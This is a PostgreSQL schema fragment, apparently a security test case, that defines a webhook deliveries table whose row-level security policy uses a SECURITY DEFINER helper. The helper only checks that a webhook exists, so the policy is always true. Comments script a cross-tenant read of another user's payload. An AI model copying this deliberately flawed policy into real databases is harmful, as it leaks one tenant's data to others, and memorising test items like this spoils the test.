-- The log of deliveries filters by the webhook's visibility, through a helper with its owner's rights:
-- always true.
-- about: webhook_deliveries, webhook_exists, webhooks
-- as: hf_gigpurse_app
-- exploit: SET request.jwt.claims = '{"sub": "bbbbbbbb-1111-4000-8000-000000000001"}';
-- exploit: INSERT INTO pay.webhook_deliveries (webhook_id, payload)
-- exploit:   SELECT id, '{"payee": "Road-secret call"}' FROM pay.webhooks;
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-1111-4000-8000-000000000001"}';
-- exploit: SELECT payload FROM pay.webhook_deliveries;
-- shows: Road-secret call
CREATE FUNCTION pay.webhook_exists(p_id uuid) RETURNS boolean
LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = pay, pg_temp
AS $$ SELECT EXISTS (SELECT 1 FROM pay.webhooks w WHERE w.id = p_id) $$;
REVOKE EXECUTE ON FUNCTION pay.webhook_exists(uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION pay.webhook_exists(uuid) TO hf_gigpurse_app;
CREATE TABLE pay.webhook_deliveries (
  webhook_id uuid NOT NULL,
  id uuid NOT NULL DEFAULT gen_random_uuid(),
  payload jsonb NOT NULL,
  sent_at timestamptz NOT NULL DEFAULT now(),
  PRIMARY KEY (webhook_id, id)
);
ALTER TABLE pay.webhook_deliveries ENABLE ROW LEVEL SECURITY;
ALTER TABLE pay.webhook_deliveries FORCE ROW LEVEL SECURITY;
CREATE POLICY deliveries_all ON pay.webhook_deliveries
  USING (pay.webhook_exists(webhook_id)) WITH CHECK (pay.webhook_exists(webhook_id));
GRANT SELECT, INSERT ON pay.webhook_deliveries TO hf_gigpurse_app;
